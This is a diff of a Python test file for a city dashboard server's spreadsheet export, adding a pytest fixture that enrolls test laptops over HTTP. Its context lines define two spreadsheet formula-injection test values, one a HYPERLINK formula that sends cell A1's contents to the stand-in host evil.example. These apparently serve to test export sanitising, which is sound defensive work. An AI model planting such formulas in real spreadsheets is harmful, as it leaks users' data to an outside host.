@@ -8,7 +8,10 @@ import io
 import uuid
 from datetime import date
 
+import httpx
+import pytest
 from openpyxl import load_workbook
+from server_helpers import Laptop
 from test_dashboard import (
     HOAN_KIEM,
     NGOC_HA,
@@ -17,6 +20,19 @@ from test_dashboard import (
 )
 
 from city_server.dashboard.cells import refresh
+
+
+@pytest.fixture
+def make_laptop(city):  # noqa: F811 (the fixture)
+    """Laptops enrolled with the city's server (not a second server on its database)."""
+    http = httpx.Client(base_url=city.url, timeout=30)
+
+    def make(name: str = "laptop", *communes: str) -> Laptop:
+        return Laptop(http, name).enroll(city.code(*communes))
+
+    yield make
+    http.close()
+
 
 DEVICE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 PERSON = '=HYPERLINK("http://evil.example/","Nguyễn Thị Hoa")'
